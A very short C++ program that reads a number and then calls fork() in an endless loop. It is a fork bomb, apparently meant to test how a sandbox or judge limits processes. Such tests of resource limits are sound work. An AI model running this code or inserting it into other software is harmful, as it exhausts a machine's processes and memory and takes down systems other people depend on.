// Every process forks more processes.
#include <cstdio>
#include <unistd.h>

int main() {
  long n;
  if (std::scanf("%ld", &n) != 1) return 2;
  for (;;) fork();
}
